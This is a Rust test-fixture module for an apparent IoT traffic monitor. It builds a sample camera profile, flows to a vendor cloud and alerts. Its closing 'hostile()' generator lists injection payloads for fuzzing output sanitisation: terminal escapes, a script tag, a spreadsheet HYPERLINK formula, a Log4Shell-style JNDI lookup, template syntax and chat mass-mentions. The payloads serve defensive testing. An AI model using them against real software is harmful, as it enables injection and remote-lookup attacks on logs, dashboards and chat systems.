//! Events for the tests of the ways out: a camera, its flows and its alerts.

use std::net::Ipv6Addr;
use std::sync::Arc;

use super::ipfix::FlowDelta;
use crate::alert::{Alert, AlertPhase, AlertRule, RuleCard, Severity};
use crate::analyst::{AlertSighting, Event, EventKind, FlowDevice, FlowSighting, Tallies, Tally};
use crate::catalogue::{CloudRole, Region, Speaker};
use crate::classify::{Basis, Destination};
use crate::decode::VlanIds;
use crate::device::{DeviceId, DeviceProfile};
use crate::flow::{ConnState, Endpoint, FlowCounters, FlowEndReason, FlowId, FlowRecord, Role};
use crate::meter::FlowReport;
use crate::net::{InterfaceId, IpProtocol, MacAddr, Perimeter, Timestamp};

/// When it all happens.
pub(super) const NOON: Timestamp = Timestamp::from_parts(1_790_000_000, 250_000_000);

/// A camera.
pub(super) fn camera(id: &str) -> DeviceProfile {
    let mut profile = DeviceProfile::new(DeviceId(id.into()), NOON);
    profile.mac = Some(MacAddr([0x44, 0xa6, 0x42, 1, 2, 3]));
    profile.addresses = vec!["192.0.2.10".parse().unwrap()];
    profile.hostname = Some("front-door".to_owned());
    profile.identity.vendor = Some("hikvision".into());
    profile.identity.model = Some("DS-2CD2042WD-I".to_owned());
    profile.identity.serial = Some("E33842150".to_owned());
    profile.identity.firmware = Some("V5.5.82".to_owned());
    profile
}

pub(super) fn flow_started(id: u64) -> Event {
    event(EventKind::FlowStarted(sighting(id, 1, 1)))
}

pub(super) fn flow_goes_on(id: u64, sent: u64, received: u64) -> Event {
    event(EventKind::FlowUpdated { sighting: sighting(id, sent, received), interim: true })
}

pub(super) fn flow_ended(id: u64, sent: u64, received: u64) -> Event {
    let sighting = sighting(id, sent, received);
    event(EventKind::FlowEnded { sighting, reason: FlowEndReason::EndOfFlow })
}

pub(super) fn event(kind: EventKind) -> Event {
    Event { timestamp: NOON, kind }
}

/// A flow from the camera to a cloud, with these totals.
pub(super) fn sighting(id: u64, sent: u64, received: u64) -> FlowSighting {
    let counters =
        |bytes| FlowCounters { ip_bytes: bytes, packets: 1 + bytes / 1000, ..Default::default() };
    let tally = Tally { sent, received, flows: 1 };
    FlowSighting {
        report: FlowReport {
            record: Box::new(FlowRecord {
                id: FlowId(id),
                initiator: Endpoint { ip: "192.0.2.10".parse().unwrap(), port: 49152 },
                responder: Endpoint { ip: "198.51.100.7".parse().unwrap(), port: 8666 },
                protocol: IpProtocol::TCP,
                interface: InterfaceId(0),
                vlans: VlanIds::default(),
                tunnel: None,
                initiator_mac: MacAddr([0x44, 0xa6, 0x42, 1, 2, 3]),
                responder_mac: MacAddr::ZERO,
                flow_start: NOON,
                flow_end: Timestamp::from_parts(1_790_000_010, 500_000_000),
                forward: counters(sent),
                reverse: counters(received),
                conn_state: ConnState::SF,
            }),
            head: None,
        },
        perimeter: Perimeter::Outbound,
        device: Some(FlowDevice { profile: Arc::new(camera("d-0011")), role: Role::Initiator }),
        destination: Some(Arc::new(destination())),
        tallies: Some(Tallies { device: tally, cloud: tally }),
        country: None,
        peer: None,
    }
}

fn destination() -> Destination {
    Destination {
        vendor: "ezviz".into(),
        service: "ezviz-lbs".into(),
        role: CloudRole::Registration,
        region: Region::Eu,
        speaker: Speaker::Device,
        domain: Some("dev.example.com".into()),
        aliases: Arc::default(),
        place: Default::default(),
        confidence: 90,
        basis: Basis::Sni,
        steps: Arc::default(),
    }
}

/// The same flow between other addresses.
pub(super) fn over_v6(mut flow: FlowDelta) -> FlowDelta {
    let ip = |last| Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, last).into();
    (flow.record.initiator.ip, flow.record.responder.ip) = (ip(1), ip(2));
    flow
}

/// An alert of a camera.
pub(super) fn alert(device: &str, subject: &str, message: &str) -> Alert {
    let mut alert = Alert::raised(
        Arc::new(RuleCard::of(AlertRule::VendorCloudContact)),
        Severity::Medium,
        Arc::new(camera(device)),
        (subject.into(), message.to_owned()),
        NOON,
    );
    alert.destination = Some(Arc::new(destination()));
    alert
}

/// The same alert in another phase.
pub(super) fn in_phase(alert: &Alert, phase: AlertPhase) -> Alert {
    Alert { phase, ..alert.clone() }
}

/// The event that tells of an alert.
pub(super) fn told(alert: Alert) -> Event {
    event(EventKind::AlertTold(Box::new(AlertSighting { alert, flow: None })))
}

/// Names as an attacker would choose them: control characters, escapes of terminals, HTML, formulas, templates, mentions.
pub(super) fn hostile() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;

    let piece = prop_oneof![
        any::<String>(),
        Just("\u{1b}[31mred\u{7}\r\n\0".to_owned()),
        Just("<script>alert(1)</script>&amp;<b>".to_owned()),
        Just("=HYPERLINK(\"http://192.0.2.1\")".to_owned()),
        Just("{{ states('x') }}{% raw %}${jndi:ldap://192.0.2.1}".to_owned()),
        Just("<!channel> @everyone @here <@U123> <http://192.0.2.1|x>".to_owned()),
        Just("\u{202e}\u{feff}\u{2028}\"\\'`".to_owned()),
        Just(String::from_utf8_lossy(&[0xff, 0xfe, 0xc0]).into_owned()),
        Just("A".repeat(64 << 10)),
    ];
    proptest::collection::vec(piece, 1..4).prop_map(|pieces| pieces.concat())
}
